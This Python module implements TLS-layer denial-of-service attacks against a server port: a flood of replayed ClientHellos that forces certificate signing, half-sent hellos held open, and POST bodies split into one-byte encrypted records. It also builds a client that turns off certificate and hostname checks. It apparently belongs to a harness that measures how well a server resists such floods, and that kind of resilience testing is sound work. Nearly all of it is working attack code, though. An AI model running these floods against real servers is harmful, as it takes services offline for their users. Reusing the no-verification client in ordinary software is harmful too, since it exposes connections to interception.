"""Attacks on what comes before requests over TLS, and on its records."""

import ssl
from collections import Counter

import connections
from crowd import Crowd, Steady, address

# Hellos in a second, and connections at once of those that send them.
HELLOS, MOST_LINES = 1000, 2000
# What a server says to a hello that it takes is its certificate and more; an alert has 7 bytes.
LEAST_FLIGHT = 500

# Writes in a second, and records in one, of one byte each.
WRITES, BURST = 1000, 100
# What nginx takes of a body.
BODY = 1_000_000
POST = f"POST /small HTTP/1.1\r\nHost: site.example\r\nContent-Length: {BODY}\r\n\r\n".encode()


def trusting():
    """Settings of a client that asks for no proof."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context


class Session:
    """TLS of a client, in memory: bytes in, bytes out."""

    def __init__(self):
        self.heard, self.says = ssl.MemoryBIO(), ssl.MemoryBIO()
        self.own = trusting().wrap_bio(self.heard, self.says, server_hostname="site.example")
        self.is_done, self.sent = False, 0
        self.advance()

    def advance(self):
        try:
            if not self.is_done:
                self.own.do_handshake()
                self.is_done = True
            while self.own.read(1 << 16):
                pass
        except (ssl.SSLWantReadError, ssl.SSLZeroReturnError):
            pass


def hello():
    """A ClientHello, complete; it may be sent over and over."""
    return Session().says.read()


def handshakes(port, seconds):
    """A hello that cost nothing, again and again; gone when the server has signed its answer."""
    first = hello()
    flights = Counter()

    def hear(line, _piece):
        if line.heard >= LEAST_FLIGHT:
            flights["whole"] += 1
            crowd.give_up(line)

    crowd = Crowd(port, seconds, hear)
    sent = held_back = 0
    for due in crowd.ticks(HELLOS):
        for _ in range(due):
            if len(crowd.lines) >= MOST_LINES:
                held_back += 1
                continue
            crowd.open(address(sent // 2), first)
            sent += 1
    crowd.turn(crowd.until + 0.5)
    planned, ended = int(HELLOS * seconds), sum(crowd.ends.values())
    words = [f"took {sent:,} of {planned:,} hellos"]
    words.append(f"answered {flights['whole']:,} with a certificate")
    words.append(f"closed {ended:,} of {crowd.opened + crowd.unopened:,} connections before that")
    silent = sent - flights["whole"] - ended
    if silent > 0:
        words.append(f"{silent:,} without an answer")
    return {
        "planned": planned, "sent": sent, "stopped": held_back + ended, "did": "; ".join(words),
    }  # fmt: skip


def half_hello(port, seconds):
    """Half a hello, then nothing, two from each address."""
    first = hello()
    return connections.hold(port, seconds, lambda n: address(n // 2), first[: len(first) // 2])


def tiny_records(port, seconds):
    """Bodies in records of one byte, each of them sealed by itself."""
    ends = Counter()

    def hear(line, piece):
        session = line.state
        session.heard.write(piece)
        try:
            session.advance()
        except ssl.SSLError as error:
            ends[error.reason or "TLS fault"] += 1
        line.send(session.says.read())

    crowd = Crowd(port, seconds, hear)
    lines = Steady(crowd, 4)
    sent = held_back = 0
    for due in crowd.ticks(WRITES):
        for _ in range(due):
            line = lines.next()
            if line and line.state is None:
                line.state = Session()
                line.send(line.state.says.read())
            if line is None or not line.state.is_done:
                held_back += 1
                continue
            line.send(records(line.state))
            sent += 1
    crowd.turn(crowd.until + 0.5)
    planned, ended = int(WRITES * seconds), sum(crowd.ends.values())
    words = [f"took {sent:,} of {planned:,} times {BURST} records"]
    words.append(f"closed {ended:,} of {crowd.opened + crowd.unopened:,} connections")
    words += [f"{count:,} {reason}" for reason, count in sorted(ends.items())]
    return {
        "planned": planned, "sent": sent, "stopped": held_back + ended, "did": "; ".join(words),
    }  # fmt: skip


def records(session):
    """The next of them; a body that is complete is followed by another one."""
    if session.sent % BODY == 0:
        session.own.write(POST)
    for _ in range(BURST):
        session.own.write(b"x")
    session.sent += BURST
    return session.says.read()
